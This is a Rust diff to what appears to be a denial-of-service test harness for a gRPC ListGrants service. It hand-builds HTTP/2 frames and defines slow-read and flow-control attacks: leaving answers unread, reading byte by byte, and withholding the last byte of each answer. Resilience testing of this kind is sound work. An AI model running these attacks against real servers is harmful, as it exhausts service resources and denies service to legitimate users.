@@ -25,8 +25,8 @@ const CALLS: u32 = 32;
 /// allows.
 const READ_BY_BYTE: u32 = 8;
 const BYTE: Duration = Duration::from_millis(100);
-/// The largest window of HTTP/2.
-const WINDOW: u32 = i32::MAX as u32;
+/// The window of a connection: larger than all answers.
+const WINDOW: u32 = 1 << 30;
 
 const DATA: u8 = 0;
 const HEADERS: u8 = 1;
@@ -35,12 +35,13 @@ const WINDOW_UPDATE: u8 = 8;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 
-/// The request for a large answer.
-static REQUEST: OnceLock<Bytes> = OnceLock::new();
+/// The request for a large answer, and the length of the answer in its frames.
+static REQUEST: OnceLock<(Bytes, u32)> = OnceLock::new();
 
-/// Sets the resource whose grants are requested.
-pub(super) fn prepare(large: Resource) {
-    REQUEST.get_or_init(|| list_grants_request(large));
+/// Sets the resource whose grants are requested, and the size of the answer.
+pub(super) fn prepare(large: Resource, size: usize) {
+    let length = u32::try_from(framed(&[]).len() + size).expect("a short answer");
+    REQUEST.get_or_init(|| (list_grants_request(large), length));
 }
 
 pub(crate) fn list_grants_request(on: Resource) -> Bytes {
@@ -50,7 +51,7 @@ pub(crate) fn list_grants_request(on: Resource) -> Bytes {
 /// Opens a connection and makes calls on it, each with this window for its answer.
 async fn call(target: Target, window: u32, calls: u32) -> Option<TcpStream> {
     let stream = connect(target.grpc).await?;
-    list_grants(stream, REQUEST.get()?, window, calls).await
+    list_grants(stream, &REQUEST.get()?.0, window, calls).await
 }
 
 /// Makes calls with this request on a new connection, each with this window for its answer.
@@ -65,8 +66,7 @@ pub(crate) async fn list_grants(
         call_headers("/c1.connector.v2.GrantsService/ListGrants", &[("authorization", &authorization)]);
     let setting = [&[0, 4][..], &window.to_be_bytes()].concat();
     let mut bytes = [GREETING, &frame(SETTINGS, 0, 0, &setting)].concat();
-    // The window of the connection is larger than all answers.
-    bytes.extend(frame(WINDOW_UPDATE, 0, 0, &(WINDOW / 2).to_be_bytes()));
+    bytes.extend(frame(WINDOW_UPDATE, 0, 0, &WINDOW.to_be_bytes()));
     for number in 0..calls {
         bytes.extend(frame(HEADERS, END_HEADERS, 2 * number + 1, &headers));
         bytes.extend(frame(DATA, END_STREAM, 2 * number + 1, request));
@@ -79,25 +79,6 @@ pub(crate) async fn list_grants(
 async fn read_all(stream: &mut (impl AsyncReadExt + Unpin)) {
     let mut bytes = vec![0; 64 * 1024];
     while stream.read(&mut bytes).await.is_ok_and(|length| length > 0) {}
-}
-
-/// The length of the answer to one call, including the frames of gRPC.
-async fn answer_length(target: Target) -> Option<u32> {
-    let mut stream = call(target, WINDOW, 1).await?;
-    let mut total = 0;
-    loop {
-        let mut head = [0; 9];
-        stream.read_exact(&mut head).await.ok()?;
-        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
-        let of_call = head[8] == 1;
-        stream.read_exact(&mut vec![0; length as usize]).await.ok()?;
-        if of_call && head[3] == DATA {
-            total += length;
-        }
-        if of_call && head[3] <= HEADERS && head[4] & END_STREAM != 0 {
-            return Some(total).filter(|total| *total > 0);
-        }
-    }
 }
 
 fn unread(target: Target) -> Attack {
@@ -130,7 +111,7 @@ fn read_by_byte(target: Target) -> Attack {
 
 fn last_byte_unread(target: Target) -> Attack {
     Box::pin(async move {
-        let Some(length) = answer_length(target).await else { return };
+        let Some((_, length)) = REQUEST.get() else { return };
         let Some(mut stream) = call(target, length - 1, CALLS).await else { return };
         read_all(&mut stream).await;
     })
